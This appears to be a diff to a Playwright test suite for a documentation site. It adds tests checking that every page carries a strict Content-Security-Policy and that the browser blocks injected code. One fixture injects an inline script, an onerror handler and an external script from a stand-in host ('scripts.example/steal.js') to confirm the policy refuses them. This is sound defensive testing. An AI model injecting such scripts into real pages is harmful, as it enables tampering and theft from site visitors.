@@ -12,7 +12,7 @@ from urllib.parse import unquote, urldefrag, urljoin, urlsplit
 
 import pytest
 import yaml
-from conftest import AXE, watched_page
+from conftest import add_axe, watched_page
 from playwright.sync_api import expect
 
 from model_build.output import REPOSITORY
@@ -153,7 +153,7 @@ def test_every_page_loads_cleanly_from_its_own_origin_and_passes_axe(browser, si
             page.wait_for_load_state("networkidle")
             if page.locator(".arithmatex").count():
                 expect(page.locator(".arithmatex .katex").first).to_be_attached()
-            page.add_script_tag(path=AXE)
+            add_axe(page)
             # Both palettes on the one load: the light one first, then the dark one by its toggle.
             for scheme, toggle in (("default", None), ("slate", "Switch to the dark palette")):
                 if toggle:
@@ -179,3 +179,78 @@ def test_the_notebook_page_shows_its_outputs(site, record):
     assert "Total params: " in text, "the model's summary"
     assert "model.json: " in text and "group1-shard1of1.bin: " in text, "the export's files"
     assert "Traceback (most recent call last)" not in text
+
+
+CSP_META = re.compile(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">')
+
+
+def test_every_page_carries_one_policy_before_anything_it_governs(site):
+    policies = set()
+    for path in site_pages(site):
+        page = path.read_text(encoding="utf-8")
+        found = CSP_META.findall(page)
+        assert len(found) == 1, f"{path}: {len(found)} policies"
+        head = page[: page.index("</head>")]
+        assert head.index("Content-Security-Policy") < min(head.find(tag) for tag in ("<script", "<link", "<style")
+                                                           if tag in head), f"{path}: the policy comes too late"
+        policies.add(html.unescape(found[0]))
+    assert len(policies) == 1, "instant navigation keeps the first page's policy: all pages need the same one"
+    directives = {part.split()[0]: part.split()[1:] for part in policies.pop().split("; ")}
+    assert directives["script-src"][:2] == ["'self'", "'wasm-unsafe-eval'"]
+    assert all(source.startswith("'sha256-") for source in directives["script-src"][2:])
+    assert directives["default-src"] == ["'self'"] and directives["object-src"] == ["'none'"]
+    assert directives["base-uri"] == ["'self'"] and directives["form-action"] == ["'none'"]
+    assert not {"'unsafe-inline'", "'unsafe-eval'", "*", "https:"} & {s for v in directives.values() for s in v}
+
+
+INJECTED = """<script>window.injected = "inline"</script><img alt="" src="data:," onerror="window.injected = 'handler'">
+<script src="https://scripts.example/steal.js"></script></body>"""
+COLLECT_VIOLATIONS = """window.violations = [];
+document.addEventListener('securitypolicyviolation', (event) => window.violations.push(
+  [event.effectiveDirective, event.blockedURI]));"""
+
+
+@pytest.mark.browser
+def test_the_policy_refuses_a_script_injected_into_a_page_and_the_demo_still_runs(browser, site_url):
+    """As if a page had been tampered with on its way (or a hook had let a script through): none
+    of the injected code runs, the browser says so, and the page's own code works."""
+    context = browser.new_context()
+    context.add_init_script(COLLECT_VIOLATIONS)
+    context.route(f"{site_url}demo/", lambda route: route.fulfill(
+        response=(response := route.fetch()), body=response.text().replace("</body>", INJECTED, 1)))
+    context.route("https://scripts.example/**", lambda route: route.fulfill(body="window.injected = 'outside'"))
+    page = context.new_page()
+    try:
+        page.goto(site_url + "demo/")
+        expect(page.locator("#digit-classifier")).to_have_attribute("data-state", "ready", timeout=30_000)
+        page.evaluate("""() => { const late = document.createElement('script');
+                                 late.textContent = 'window.injected = "later"'; document.body.append(late); }""")
+        page.wait_for_function("window.violations.length >= 4")
+        assert page.evaluate("window.injected") is None
+        violations = page.evaluate("window.violations")
+        assert ["script-src-elem", "inline"] in violations and ["script-src-attr", "inline"] in violations
+        assert ["script-src-elem", "https://scripts.example/steal.js"] in violations
+        assert violations.count(["script-src-elem", "inline"]) == 2, "the script added later is refused too"
+    finally:
+        context.close()
+
+
+@pytest.mark.browser
+def test_search_and_instant_navigation_run_under_the_policy(page, site_url):
+    """Material's search (a web worker) and its instant navigation, which runs the next page's
+    inline scripts in the document the first page opened: the policy refuses none of it."""
+    page.goto(site_url)
+    page.get_by_role("textbox", name="Search").click()
+    page.keyboard.type("stride")
+    result = page.locator(".md-search-result__item a").first
+    expect(result).to_be_visible()
+    page.keyboard.press("Enter")  # Material opens the first result, without submitting the form
+    expect(page).to_have_url(re.compile(r"\?h=stride$"))
+    expect(page.locator("mark").first).to_have_text(re.compile("stride", re.IGNORECASE))
+    page.evaluate("window.stillTheFirstDocument = true")
+    page.get_by_role("link", name="Training the CNN, step by step").first.click()  # the notebook's own title
+    expect(page).to_have_url(re.compile(r"notebook/$"))
+    expect(page.locator(".jp-Cell").first).to_be_visible()
+    assert page.evaluate("window.stillTheFirstDocument"), "the page came by instant navigation"
+    # The notebook template's inline script ran, allowed by its hash: the copy buttons work.
+    page.wait_for_function("customElements.get('clipboard-copy') !== undefined")
